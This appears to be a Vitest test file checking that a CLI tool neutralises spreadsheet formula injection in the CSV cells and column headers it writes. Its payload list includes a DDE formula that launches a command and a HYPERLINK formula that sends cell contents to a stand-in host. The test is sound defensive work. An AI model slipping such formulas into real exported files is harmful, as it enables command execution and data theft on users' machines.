import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { folderWith } from '../batch/folder.ts'
import { runCli } from '../cli/run-cli.ts'

const FORMULAS = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
    `${sign}1+1`,
    ` ${sign}1+1`,
    `\u00a0\u3000${sign}1+1`,
    `\n${sign}1+1`,
    `\0${sign}1+1`,
    `\ufeff${sign}1+1`,
  ]),
  '\t=1+1',
  '\tx',
  '\r=1+1',
  '\rx',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://away.example/?"&A1,"x")',
  '@SUM(1+1)*cmd',
]
const HARMLESS = ['a=1', "'=1", '"=1+1', '1-1', '(=1)', 'x\n=1', '', '[1]', '#x', '5 % - 3']

const columnsOf = (texts: readonly string[]) =>
  Object.fromEntries(texts.map((text, i) => [`c${i}`, text]))

/** One row with each text in a column, as `--out FILE.csv` writes it. */
async function written(texts: readonly string[]): Promise<Record<string, string>> {
  const row = { text: 'Abc def.', ...columnsOf(texts), list: texts, n: -1, float: -0.5 }
  const folder = await folderWith({ 'in.jsonl': `${JSON.stringify(row)}\n` })
  const path = join(folder, 'out.csv')
  const { code, err } = await runCli([join(folder, 'in.jsonl'), '--out', path, '--quiet'])
  expect([code, err]).toEqual([0, ''])
  const [found] = parse(await readFile(path), { columns: true }) as Record<string, string>[]
  return found!
}

describe('CSV', () => {
  it('has no cell that a spreadsheet runs', async () => {
    const { n, float, ...row } = await written(FORMULAS)
    expect([n, float]).toEqual(['-1', '-0.5'])
    expect(row).toMatchObject(columnsOf(FORMULAS.map((text) => `'${text}`)))
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r]/)
  })

  it('leaves other texts alone', async () => {
    expect(await written(HARMLESS)).toMatchObject(columnsOf(HARMLESS))
  })

  it('has no name of a column that a spreadsheet runs, and takes such names', async () => {
    const names = FORMULAS.filter((name) => !/[\0\r\n\ufeff]/.test(name))
    const header = ['text', ...names].map((name) => `"${name.replaceAll('"', '""')}"`).join(',')
    const folder = await folderWith({
      'in.csv': `${header}\nAbc def.${',x'.repeat(names.length)}\n`,
    })
    const [input, path] = [join(folder, 'in.csv'), join(folder, 'out.csv')]
    await runCli([input, '--out', path, '--quiet'])
    const [columns = []] = parse(await readFile(path))
    expect(columns.slice(1, names.length + 1)).toEqual(names.map((name) => `'${name}`))
    const { out } = await runCli([input, '--to', 'jsonl'])
    expect(Object.keys(JSON.parse(out) as object)).toEqual(expect.arrayContaining(names))
  })

  it('of formulas comes out of restore as it was', async () => {
    const quoted = FORMULAS.map((text) => `"${text.replaceAll('"', '""')}"`)
    const names = Object.keys(columnsOf(FORMULAS))
    const csv = `text,${names.join(',')}\nAbc.,${quoted.join(',')}\n`
    const folder = await folderWith({ 'in.csv': csv })
    const rows = await runCli([join(folder, 'in.csv'), '--to', 'jsonl'])
    const { out } = await runCli(['restore'], { stdin: rows.out })
    expect(JSON.parse(out)).toEqual({ text: 'Abc.', ...columnsOf(FORMULAS) })
  })
})
